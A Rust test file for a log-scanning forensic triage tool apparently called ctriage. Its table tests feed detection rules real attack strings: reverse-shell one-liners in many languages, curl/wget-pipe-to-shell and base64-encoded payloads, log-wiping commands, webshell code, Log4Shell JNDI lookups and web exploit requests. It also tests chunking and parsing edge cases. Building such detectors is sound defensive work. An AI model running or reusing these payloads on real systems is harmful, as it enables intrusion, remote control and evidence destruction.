//! Log scanning: signature families (table tests), buffer-size and chunking invariance,
//! json-file partial records, huge lines and binary data, logs inside filesystem tars,
//! and the `logs` / `rules` commands.

use std::io::Cursor;

use ctriage::evidence::discover;
use ctriage::logscan::scanner::{scan_artifact, scan_stream};
use ctriage::logscan::{scan_bundle, Engine, LogFormat, ScanConfig};
use ctriage::model::Locator;

use crate::util::{run, run_json, write_files};

fn engine() -> Engine {
    Engine::builtin().unwrap()
}

fn rule_ids(e: &Engine, line: &str) -> Vec<String> {
    e.evaluate(line.as_bytes()).iter().map(|m| e.rules()[m.rule].id.clone()).collect()
}

/// (line, rules that must fire) and lines where none of `family` may fire.
fn table(family: &str, positives: &[(&str, &str)], negatives: &[&str]) {
    let e = engine();
    for (line, rule) in positives {
        let ids = rule_ids(&e, line);
        assert!(ids.iter().any(|i| i == rule), "{family}: {rule} did not fire on {line:?} (got {ids:?})");
    }
    for line in negatives {
        let ids = rule_ids(&e, line);
        let bad: Vec<&String> = ids.iter().filter(|i| i.starts_with(family)).collect();
        assert!(bad.is_empty(), "{family}: fired on benign {line:?}: {bad:?}");
    }
}

#[test]
fn jndi_family() {
    table(
        "log4j",
        &[
            ("${jndi:ldap://x.example/a}", "log4j.jndi-lookup"),
            ("GET /?q=%2524%25257Bjndi%253Aldap%253A%252F%252Fx%25257D", "log4j.jndi-lookup"),
            (r"User-Agent: \u0024\u007bjndi:rmi://x/a}", "log4j.jndi-lookup"),
            (r"ua=\x24\x7bjndi:dns://x}", "log4j.jndi-lookup"),
            ("&#36;&#123;jndi:ldap://x/a}", "log4j.jndi-lookup"),
            ("${${::-j}ndi:rmi://", "log4j.jndi-lookup"),
            ("${jnd${upper:ı}:ldap://x/a}", "log4j.jndi-lookup"),
            ("X-Api-Version: ${${lower:j}${upper:n}${lower:d}i:${lower:l}dap://x:1389/Basic/Command/Base64/aWQ=}", "log4j.jndi-lookup"),
            ("WARN Error looking up JNDI resource [ldap://192.0.2.1:1389/a]", "log4j.jndi-lookup-error"),
        ],
        &[
            "${user.home}/conf ${catalina.base}",
            "jndi:ldap://x.example/a mentioned in prose",
            "WARN JNDI lookups are disabled (log4j2.enableJndiLookup=false)",
            "Message lookups are disabled: formatMsgNoLookups=true ${jndi}",
            "TYPE: %%1938 VERSION: 2",
        ],
    );
}

#[test]
fn reverse_shell_family() {
    table(
        "shell.reverse",
        &[
            ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "shell.reverse.dev-tcp"),
            ("nc -e /bin/sh 10.0.0.1 4242", "shell.reverse.netcat"),
            ("busybox nc 10.0.0.1 4444 -e /bin/sh", "shell.reverse.netcat"),
            ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "shell.reverse.fifo"),
            ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "shell.reverse.socat"),
            ("python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"10.0.0.1\",4444));pty.spawn(\"sh\")'", "shell.reverse.python"),
            ("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\")'", "shell.reverse.perl"),
            ("php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "shell.reverse.php"),
            ("ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"10.0.0.1\",4444))'", "shell.reverse.ruby"),
            ("powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream()\"", "shell.reverse.powershell"),
            ("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"}'", "shell.reverse.awk"),
            ("TF=$(mktemp -u);mkfifo $TF && telnet 10.0.0.1 4444 0<$TF | /bin/sh 1>$TF", "shell.reverse.fifo"),
            ("GET /cgi-bin/x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4242%200%3E%261", "shell.reverse.dev-tcp"),
        ],
        &[
            "rsync -e ssh /src host:/dst",
            "sync -c done; func -c ok; once -e x",
            "connected to socket /var/run/docker.sock",
            "kernel: nc: connection refused",
            "sshd[42]: Accepted publickey for deploy from 10.0.0.5 port 51234",
        ],
    );
}

#[test]
fn download_encoded_and_miner_families() {
    let b64 = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80MjQyIDA+JjE=";
    let java = format!("bash -c {{echo,{b64}}}|{{base64,-d}}|{{bash,-i}}");
    table(
        "shell",
        &[
            ("curl -fsSL http://203.0.113.9/x.sh | bash", "shell.download-pipe"),
            ("wget -q -O- http://203.0.113.9/x | sh", "shell.download-pipe"),
            ("wget http://x/k -O /tmp/k; chmod +x /tmp/k; /tmp/k", "shell.download-chmod"),
            (
                "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
                "shell.download-powershell",
            ),
            (&java, "shell.base64-exec"),
            (&java, "shell.reverse.dev-tcp"),
            ("echo aWQ7dW5hbWUgLWE= | base64 -d | sh", "shell.base64-exec"),
        ],
        &["curl -s http://localhost:8080/health", "base64 encoded token issued", "history of changes"],
    );
    table(
        "miner",
        &[
            ("./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4A --donate-level 1", "miner.stratum"),
            ("./xmrig -o pool.supportxmr.com:443", "miner.software"),
            ("connecting to gulf.moneroocean.stream:10128", "miner.pool"),
        ],
        &["undetermined mining of data", "Determine the miner's license"],
    );
    table(
        "antiforensics",
        &[
            ("history -c && rm -f ~/.bash_history", "antiforensics.history"),
            ("unset HISTFILE; export HISTSIZE=0", "antiforensics.history"),
            ("rm -rf /var/log/*", "antiforensics.log-wipe"),
            ("echo > /var/log/auth.log", "antiforensics.log-wipe"),
            ("cat /dev/null > /var/log/wtmp", "antiforensics.log-wipe"),
        ],
        &["logrotate: rotating /var/log/syslog", "history saved", "journalctl -u nginx"],
    );
}

#[test]
fn webapp_family() {
    table(
        "web",
        &[
            ("Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "web.struts2.ognl"),
            ("GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/ HTTP/1.1", "web.struts2.ognl"),
            (r#"{"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x:9999/E","autoCommit":true}}"#, "web.fastjson.autotype"),
            ("GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "web.spring4shell"),
            ("spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"id\")", "web.spring.function-routing"),
            ("GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system", "web.thinkphp.rce"),
            ("POST /wls-wsat/CoordinatorPortType HTTP/1.1", "web.weblogic"),
            ("GET /pages/createpage.action?queryString=%5cu0027%2b%7b233*233%7d%2b%5cu0027", "web.confluence.ognl-concat"),
            ("Cookie: rememberMe=kPH+bIxk5D2deZiIxcaaaA0kvhjbfq==", "web.shiro.rememberme"),
            ("GET /../../../../etc/passwd HTTP/1.1", "web.path-traversal"),
            ("GET /cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "web.path-traversal"),
            ("GET /uploads/shell.jsp?cmd=id HTTP/1.1", "web.webshell.cmd-param"),
            ("<?php @eval($_POST['pass']);?>", "web.webshell.code"),
            ("POST /x.php z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw==", "web.webshell.chopper"),
            ("GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users", "web.sqli"),
            ("GET /item?id=1' or '1'='1", "web.sqli"),
        ],
        &[
            r#"203.0.113.1 - - [27/Nov/2026:14:00:00 +0000] "GET /static/app.js?v=3 HTTP/1.1" 200 512 "https://example.com/" "Mozilla/5.0""#,
            r#"{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"x"}"#,
            "Set-Cookie: rememberMe=deleteMe; Path=/",
            "GET /docs/../index.html HTTP/1.1",
            "select a union of sets",
        ],
    );
}

#[test]
fn code_shells_need_a_socket_and_a_shell_in_code_not_in_stack_frames() {
    // Every line here must give no hit at all: stack frames, library and runtime messages
    // that name sockets, process builders or shells without being a reverse shell.
    let json_trace = r#"{"@timestamp":"2026-11-27T14:19:42.131Z","level":"ERROR","stack_trace":"java.net.ConnectException: Connection refused\n\tat java.net.PlainSocketImpl.socketConnect(Native Method)\n\tat java.net.Socket.connect(Socket.java:589)\n\tat sun.nio.ch.SocketChannelImpl.connect(SocketChannelImpl.java:624)\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\n\tat java.lang.Runtime.exec(Runtime.java:620)\n"}"#;
    table(
        "",
        &[],
        &[
            "\tat java.net.Socket.connect(Socket.java:589)",
            "\tat java.net.Socket.connect(Socket.java:538)\n\tat java.net.Socket.<init>(Socket.java:434)",
            "\tat sun.nio.ch.SocketChannelImpl.connect(SocketChannelImpl.java:624)",
            "\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)",
            "\tat java.lang.Runtime.exec(Runtime.java:620)",
            "import java.net.Socket;",
            json_trace,
            "   at System.Net.Sockets.TcpClient.Connect(String hostname, Int32 port)",
            "   at System.Net.Sockets.TcpClient.GetStream()",
            "Error: connect ECONNREFUSED 10.0.0.5:5432 at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1555:16) net.Socket",
            "child_process exited with code 1 (spawned by npm run build)",
            "DBD::mysql: IO::Socket::SSL: SSL connect attempt failed error:0200100D:system library:fopen:Permission denied",
            "PHP Warning:  fsockopen(): unable to connect to smtp.example.com:25 (Connection timed out) in /var/www/system/libraries/Email.php on line 1962",
            "Net::HTTP: Failed to open TCP connection to api.example.com:443 (TCPSocket.open) /usr/lib/ruby/2.7.0/net/http.rb:960:in `initialize': system call error",
            "lua: socket.tcp: connection refused (popen pool exhausted)",
        ],
    );
    // Reverse shells written as code still fire, socket and shell in one record.
    table(
        "shell",
        &[
            (r#"node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});})();'"#, "shell.reverse.node"),
            ("require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')", "shell.reverse.node"),
            ("String cmd=\"/bin/sh\";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);", "shell.reverse.java"),
            ("Socket s=new java.net.Socket(\"10.0.0.1\",4444);Runtime.getRuntime().exec(\"/bin/sh\");", "shell.reverse.java"),
            ("perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'", "shell.reverse.perl"),
            ("ruby -rsocket -e 'c=TCPSocket.new(\"10.0.0.1\",\"4242\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'", "shell.reverse.ruby"),
            ("php -r '$sock=fsockopen(\"10.0.0.1\",4242);`/bin/sh -i <&3 >&3 2>&3`;'", "shell.reverse.php"),
            ("lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"", "shell.reverse.lua"),
            ("Socket.connect(\"10.0.0.1\", 4242).then((socket) { Process.start('/bin/sh', []) });", "shell.code.socket-shell"),
            ("si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)sock;", "shell.code.socket-stdio"),
            ("$c = New-Object -TypeName ('System.Net.Sockets.TCPClient')('10.0.0.1',4242);$s = $c.GetStream()", "shell.reverse.powershell"),
            ("$c=[System.Net.Sockets.TcpClient]::new('10.0.0.1',4242);$s=$c.GetStream();iex $x", "shell.reverse.powershell"),
            ("p = Process.new(m.rstrip, output: Process::Redirect::Pipe, shell: true)", "shell.spawn.code"),
        ],
        &[],
    );
}

#[test]
fn path_traversal_is_a_request_climbing_or_reaching_a_sensitive_file() {
    table(
        "web.path-traversal",
        &[
            ("GET /../../../../etc/passwd HTTP/1.1", "web.path-traversal"),
            ("GET /download?file=..%2f..%2fetc%2fpasswd HTTP/1.1", "web.path-traversal"),
            ("GET /static/%252e%252e/%252e%252e/%252e%252e/etc/shadow HTTP/1.1", "web.path-traversal"),
            ("GET /img?f=....//....//....//etc/passwd HTTP/1.1", "web.path-traversal"),
            (r"GET /view?page=..\..\..\windows\win.ini HTTP/1.1", "web.path-traversal"),
            ("GET /index.php?page=/etc/passwd HTTP/1.1", "web.path-traversal"),
            ("GET /read?u=file:///etc/shadow HTTP/1.1", "web.path-traversal"),
            ("POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "web.path-traversal"),
            ("GET /;/..;/manager/html HTTP/1.1", "web.path-traversal"),
            ("GET /proc/self/environ HTTP/1.1", "web.path-traversal"),
        ],
        &[
            "cat: /etc/shadow: Permission denied",
            "[Wed Nov 27 14:01:05 2026] [error] sh: 1: cannot open /etc/passwd: Permission denied",
            "useradd[311]: new user: name=app, UID=1000, GID=1000, home=/home/app, shell=/bin/sh, from=none",
            "passwd[412]: password for 'app' changed, /etc/shadow updated",
            "GET /docs/../index.html HTTP/1.1",
        ],
    );
}

#[test]
fn a_weaker_rule_of_the_family_yields_to_the_stronger_hit_on_the_same_record() {
    let e = engine();
    let ids = rule_ids(&e, "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1");
    assert!(ids.contains(&"shell.reverse.dev-tcp".to_string()), "{ids:?}");
    assert!(!ids.contains(&"shell.interactive".to_string()), "duplicate next to the reverse shell: {ids:?}");
    // Decoded from base64: the reverse shell inside still supersedes the bare `bash -i`.
    let java = "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80MjQyIDA+JjE=}|{base64,-d}|{bash,-i}";
    let ids = rule_ids(&e, java);
    assert!(ids.contains(&"shell.reverse.dev-tcp".to_string()), "{ids:?}");
    assert!(!ids.contains(&"shell.interactive".to_string()), "{ids:?}");
    let ps = "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream();iex $d\"";
    let ids = rule_ids(&e, ps);
    assert!(ids.contains(&"shell.reverse.powershell".to_string()), "{ids:?}");
    assert!(!ids.contains(&"shell.code.socket-shell".to_string()), "{ids:?}");
    let php = "php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'";
    assert_eq!(rule_ids(&e, php), vec!["shell.reverse.php".to_string()]);
    // A bare interactive shell or shell spawn keeps its own finding.
    for bare in ["docker exec -it web /bin/bash -i", "sh -i"] {
        assert_eq!(rule_ids(&e, bare), vec!["shell.interactive".to_string()], "{bare}");
    }
    assert_eq!(rule_ids(&e, "perl -e 'exec \"/bin/sh\";'"), vec!["shell.spawn.code".to_string()]);
}

#[test]
fn hit_indicators_are_listed_once_sorted() {
    let dir = tempfile::tempdir().unwrap();
    let line = "198.51.100.23 - - [27/Nov/2026:13:47:05 +0000] \"GET / HTTP/1.1\" 302 398 \"-\" \"${jndi:ldap://198.51.100.23:1389/Exploit}\"\n";
    write_files(dir.path(), &[("access.log", line.as_bytes())]);
    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
    let iocs: Vec<&str> = v["bundles"][0]["log_hits"][0]["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i.as_str().unwrap())
        .collect();
    assert_eq!(iocs, ["ip:198.51.100.23", "port:1389", "url:ldap://198.51.100.23:1389/Exploit"]);
}

/// A log with attacks on short lines, inside a long line, CRLF, NUL bytes and no final newline.
fn tricky_log() -> Vec<u8> {
    let mut v = Vec::new();
    for i in 0..300 {
        v.extend_from_slice(format!("2026-11-27T14:00:{:02}Z INFO request {i} ok\n", i % 60).as_bytes());
        if i % 37 == 0 {
            v.extend_from_slice(b"2026-11-27T14:01:00Z WARN ua=${jndi:ldap://x.example/a}\r\n");
        }
        if i % 53 == 0 {
            v.extend_from_slice(b"bin\x00\x00ary\xff\xfe nc -e /bin/sh 10.0.0.1 4242 \x00\n");
        }
    }
    // A 5000-byte line: payloads inside its first, second and last 1024-byte record, and one
    // straddling the 2048 cut (never seen, whatever the buffer).
    let mut long = vec![b'a'; 5000];
    long[100..100 + 30].copy_from_slice(b"bash -i >& /dev/tcp/1.2.3.4/4 ");
    long[1100..1100 + 15].copy_from_slice(b"stratum+tcp://p");
    long[2040..2040 + 15].copy_from_slice(b"stratum+tcp://q");
    long[4949..4949 + 16].copy_from_slice(b" history -c;ls x");
    v.extend_from_slice(&long);
    v.push(b'\n');
    v.extend_from_slice(b"tail without newline ${jndi:rmi://y/b}");
    v
}

fn tuples(scan: &ctriage::logscan::StreamScan, e: &Engine) -> Vec<(String, u64, u64)> {
    let mut t: Vec<(String, u64, u64)> = scan
        .hits
        .iter()
        .map(|h| (e.rules()[h.rule].id.clone(), h.locator.line.unwrap(), h.locator.offset.unwrap()))
        .collect();
    t.sort();
    t
}

#[test]
fn same_hits_whatever_the_buffer_size() {
    let e = engine();
    let data = tricky_log();
    let loc = Locator::artifact("t.log");
    let mut reference: Option<Vec<(String, u64, u64)>> = None;
    for buf in [1025, 1100, 2047, 4096, 9999, 65536, 1 << 20] {
        let cfg = ScanConfig { buf_size: buf, max_record: 1024, ..Default::default() };
        // A reader that returns few bytes at a time too.
        let s = scan_stream(Cursor::new(data.clone()), LogFormat::Text, &e, &cfg, &loc, 0);
        let t = tuples(&s, &e);
        assert_eq!(s.newlines, data.iter().filter(|&&b| b == b'\n').count() as u64);
        match &reference {
            None => reference = Some(t),
            Some(r) => assert_eq!(&t, r, "buffer {buf}"),
        }
    }
    let r = reference.unwrap();
    let jndi_lines: Vec<u64> = r.iter().filter(|t| t.0 == "log4j.jndi-lookup").map(|t| t.1).collect();
    assert_eq!(jndi_lines.len(), 10, "{r:?}");
    assert_eq!(
        r.iter().filter(|t| t.0 == "shell.reverse.netcat").count(),
        6,
        "NUL bytes must not stop the scan"
    );
    assert!(r.iter().any(|t| t.0 == "shell.reverse.dev-tcp"));
    assert!(r.iter().any(|t| t.0 == "antiforensics.history"));
    // One stratum hit per line (the first record); the one across the cut is not seen.
    assert_eq!(r.iter().filter(|t| t.0 == "miner.stratum").count(), 1);
    // The tail without newline is the last line.
    let last = r.iter().map(|t| t.1).max().unwrap();
    assert!(r.iter().any(|t| t.0 == "log4j.jndi-lookup" && t.1 == last));
}

#[test]
fn parallel_chunks_give_the_same_hits_as_one_stream() {
    let e = engine();
    let dir = tempfile::tempdir().unwrap();
    let mut data = Vec::new();
    while data.len() < 5 << 20 {
        data.extend_from_slice(
            b"203.0.113.9 - - [27/Nov/2026:14:00:00 +0000] \"GET /a HTTP/1.1\" 200 5 \"-\" \"curl\"\n",
        );
        if data.len() % 7919 < 90 {
            data.extend_from_slice(b"x ${jndi:ldap://evil.example/a}\n");
        }
    }
    let p = dir.path().join("big.log");
    std::fs::write(&p, &data).unwrap();
    let bundle = discover(&p);
    let a = &bundle.artifacts[0];
    let streamed =
        scan_stream(Cursor::new(data.clone()), LogFormat::Text, &e, &ScanConfig::default(), &a.locator(), 0);
    let cfg = ScanConfig { parallel_min: 1 << 20, ..Default::default() };
    let chunked = scan_artifact(a, LogFormat::Text, &e, &cfg);
    assert!(!streamed.hits.is_empty());
    assert_eq!(tuples(&chunked, &e), tuples(&streamed, &e));
    assert_eq!(chunked.newlines, streamed.newlines);
}

fn json_record(log: &str, stream: &str, time: &str) -> String {
    format!(
        "{{\"log\":{},\"stream\":\"{stream}\",\"time\":\"{time}\"}}\n",
        serde_json::to_string(log).unwrap()
    )
}

#[test]
fn json_file_partial_records_are_joined_per_stream() {
    let e = engine();
    // A 40 000-byte message split by Docker into 16 KiB parts; the payload straddles the
    // first cut. An stderr record interleaves.
    let mut msg = "x".repeat(16_384 - 10);
    msg.push_str("${jndi:ldap://split.example/a}");
    msg.push_str(&"y".repeat(40_000 - msg.len()));
    let parts: Vec<&str> = [&msg[..16_384], &msg[16_384..32_768], &msg[32_768..]].to_vec();
    let mut log = String::new();
    log.push_str(&json_record(parts[0], "stdout", "2026-11-27T14:00:00.1Z"));
    log.push_str(&json_record("unrelated \u{3c}b\u{3e}\n", "stderr", "2026-11-27T14:00:00.2Z"));
    log.push_str(&json_record(parts[1], "stdout", "2026-11-27T14:00:00.3Z"));
    log.push_str(&json_record(&format!("{}\n", parts[2]), "stdout", "2026-11-27T14:00:00.4Z"));
    log.push_str(&json_record(
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n",
        "stderr",
        "2026-11-27T14:00:01.123456789",
    ));
    // A short record without newline (a process's last output) is complete, not a part.
    log.push_str(&json_record("exit ${jndi:ldap://short.example/a}", "stdout", "2026-11-27T14:00:02Z"));
    log.push_str(&json_record("next ${jndi:ldap://next.example/b}\n", "stdout", "2026-11-27T14:00:03Z"));
    let s = scan_stream(
        Cursor::new(log.into_bytes()),
        LogFormat::JsonFile,
        &e,
        &ScanConfig::default(),
        &Locator::artifact("c-json.log"),
        0,
    );
    let jndi: Vec<_> = s.hits.iter().filter(|h| e.rules()[h.rule].id == "log4j.jndi-lookup").collect();
    assert_eq!(jndi.len(), 3);
    let hosts: Vec<_> = jndi.iter().map(|h| h.found.jndi.as_ref().unwrap().host.clone().unwrap()).collect();
    assert_eq!(hosts, ["split.example", "short.example", "next.example"]);
    assert_eq!(jndi[0].locator.line, Some(1));
    assert_eq!(jndi[0].stream.as_deref(), Some("stdout"));
    assert_eq!(jndi[0].time.unwrap().to_iso(), "2026-11-27T14:00:00.100000000Z");
    assert_eq!(jndi[0].found.jndi.as_ref().unwrap().host.as_deref(), Some("split.example"));
    let shell = s.hits.iter().find(|h| e.rules()[h.rule].id == "shell.reverse.dev-tcp").unwrap();
    assert_eq!(shell.locator.line, Some(5));
    assert_eq!(shell.time.unwrap().to_iso(), "2026-11-27T14:00:01.123456789Z");
}

#[test]
fn huge_line_is_scanned_in_bounded_records() {
    let e = engine();
    let mut data = vec![b'A'; 20 << 20];
    let mid = 10 << 20;
    data[mid..mid + 33].copy_from_slice(b"${jndi:ldap://deep.example/a}    ");
    let end = data.len() - 40;
    data[end..end + 29].copy_from_slice(b"stratum+tcp://pool.example:3 ");
    let s = scan_stream(
        Cursor::new(data),
        LogFormat::Text,
        &e,
        &ScanConfig::default(),
        &Locator::artifact("h"),
        0,
    );
    let ids: Vec<&str> = s.hits.iter().map(|h| e.rules()[h.rule].id.as_str()).collect();
    assert!(ids.contains(&"log4j.jndi-lookup") && ids.contains(&"miner.stratum"), "{ids:?}");
    assert!(s.hits.iter().all(|h| h.excerpt.len() <= 400 && h.locator.line == Some(1)));
}

fn tar_with(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut g = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    g.write_all(data).unwrap();
    g.finish().unwrap()
}

#[test]
fn scan_finds_logs_inside_an_export_and_rotated_json_logs() {
    let dir = tempfile::tempdir().unwrap();
    let access = b"198.51.100.4 - - [27/Nov/2026:13:00:00 +0000] \"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fcb.example%2Fx%7D HTTP/1.1\" 200 1 \"-\" \"-\"\n";
    let export = tar_with(&[
        ("etc/passwd", b"root:x:0:0::/root:/bin/bash\n"),
        ("var/log/nginx/access.log", access),
        (
            "var/log/nginx/access.log.2.gz",
            &gzip(b"Nov 27 12:00:00 h app: curl http://203.0.113.5/a.sh | sh\n"),
        ),
        (
            "usr/local/tomcat/logs/catalina.out",
            b"27-Nov-2026 13:30:00.000 SEVERE x: ${jndi:rmi://cb.example/y}\n",
        ),
    ]);
    let old = json_record("wget -qO- http://203.0.113.5/m | sh\n", "stdout", "2026-11-27T10:00:00Z");
    let cur =
        json_record("sh -c 'xmrig -o stratum+tcp://pool.example:3333'\n", "stdout", "2026-11-27T11:00:00Z");
    write_files(
        dir.path(),
        &[("export.tar", &export), ("c/abc-json.log", cur.as_bytes()), ("c/abc-json.log.1", old.as_bytes())],
    );
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(code & 1, 1, "critical findings set exit bit 0");
    let b = &v["bundles"][0];
    let hits = b["log_hits"].as_array().unwrap();
    let find = |rule: &str, member: &str| {
        hits.iter()
            .find(|h| {
                h["rule"] == rule
                    && h["locator"]["members"].as_array().is_some_and(|m| m.iter().any(|x| x == member))
            })
            .unwrap_or_else(|| panic!("no {rule} in {member}: {hits:#?}"))
    };
    let h = find("log4j.jndi-lookup", "var/log/nginx/access.log");
    assert_eq!(h["locator"]["artifact"], "export.tar");
    assert_eq!(h["jndi"]["host"], "cb.example");
    assert_eq!(h["time"], "2026-11-27T13:00:00.000000000Z");
    find("shell.download-pipe", "var/log/nginx/access.log.2.gz");
    let t = find("log4j.jndi-lookup", "usr/local/tomcat/logs/catalina.out");
    assert_eq!(t["time"], "2026-11-27T13:30:00.000000000Z");
    assert!(hits.iter().any(|h| h["rule"] == "miner.stratum" && h["stream"] == "stdout"));
    assert!(hits
        .iter()
        .any(|h| h["locator"]["artifact"] == "c/abc-json.log.1" && h["rule"] == "shell.download-pipe"));
    // IOCs per bundle: the callback domain carried by two hits, the request source IP.
    let iocs = b["log_indicators"].as_array().unwrap();
    let cb = iocs.iter().find(|i| i["type"] == "domain" && i["value"] == "cb.example").unwrap();
    assert_eq!(cb["count"], 2);
    assert_eq!(cb["first_seen"], "2026-11-27T13:00:00.000000000Z");
    assert_eq!(cb["last_seen"], "2026-11-27T13:30:00.000000000Z");
    assert!(iocs.iter().any(|i| i["value"] == "198.51.100.4" && i["roles"][0] == "request-source"));
    // Nothing followed the JNDI requests: they are attempts (never a compromise), listed
    // with the proof from both logs, and log-hit timeline events.
    let f: Vec<_> =
        b["attempts"].as_array().unwrap().iter().filter(|a| a["rule"] == "log.log4j.jndi-lookup").collect();
    assert!(!f.is_empty(), "{:#}", b["attempts"]);
    assert!(f.iter().all(|a| a["outcome"] == "unconfirmed"), "{f:#?}");
    let members: Vec<&str> = f
        .iter()
        .flat_map(|a| a["evidence"].as_array().unwrap().iter())
        .filter_map(|l| l["members"][0].as_str())
        .collect();
    assert!(members.contains(&"var/log/nginx/access.log"), "{members:?}");
    assert!(members.contains(&"usr/local/tomcat/logs/catalina.out"), "{members:?}");
    assert!(b["timeline"].as_array().unwrap().iter().any(|e| e["kind"] == "log-hit"));
}

#[test]
fn logs_command_text_json_and_user_rules() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("app.log", b"2026-11-27 14:00:00,123 ERROR x - user-agent ${jndi:ldap://a.example/x} \x1b[31m\n2026-11-27 14:00:01,000 INFO ACME-BACKDOOR-7 beacon\n"),
            (
                "my.rules",
                b"# a rule of our own\n[rule]\nid = acme.backdoor\ntitle = ACME backdoor beacon\ncategory = command-and-control\nseverity = high\nattack = T1071\ncase = sensitive\nliteral = ACME-BACKDOOR-\nconfirm = regex:ACME-BACKDOOR-\\d+\n",
            ),
        ],
    );
    let log = dir.path().join("app.log");
    let rules = dir.path().join("my.rules");
    let out = run(&["logs", log.to_str().unwrap(), "--rules", rules.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Log4Shell JNDI lookup") && text.contains("ACME backdoor beacon"), "{text}");
    assert!(!text.contains('\x1b'), "attacker escape sequences must be neutralised");
    assert_eq!(out.status.code(), Some(1));
    let (v, _) = run_json(&["logs", log.to_str().unwrap()]);
    let h = &v["bundles"][0]["log_hits"][0];
    assert_eq!(h["rule"], "log4j.jndi-lookup");
    assert_eq!(h["locator"]["line"], 1);
    assert_eq!(h["locator"]["offset"], 0);
    assert_eq!(h["time"], "2026-11-27T14:00:00.123000000Z");
    assert_eq!(h["jndi"]["scheme"], "ldap");
    assert_eq!(h["attack"], "T1190");
    assert!(h["iocs"].as_array().unwrap().iter().any(|i| i == "domain:a.example"));
}

#[test]
fn web_hits_carry_the_parsed_request_and_validate_against_the_schema() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[(
            "access.log",
            b"192.0.2.10 - - [27/Nov/2026:14:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n\
203.0.113.66 - - [27/Nov/2026:14:00:01 +0000] \"GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D HTTP/1.1\" 404 153 \"http://ref.example/\" \"curl/8.4.0\"\n",
        )],
    );
    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
    crate::util::validate_against_schema(&v);
    let h = &v["bundles"][0]["log_hits"][0];
    assert_eq!(h["rule"], "log4j.jndi-lookup");
    let r = &h["http"];
    assert_eq!(r["client"], "203.0.113.66");
    assert_eq!(r["method"], "GET");
    assert_eq!(r["path"], "/");
    assert_eq!(r["query"], "x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D");
    assert_eq!(r["status"], 404);
    assert_eq!(r["bytes"], 153);
    assert_eq!(r["referer"], "http://ref.example/");
    assert_eq!(r["user_agent"], "curl/8.4.0");
    assert!(r.get("host").is_none(), "absent parts are left out: {r}");
}

#[test]
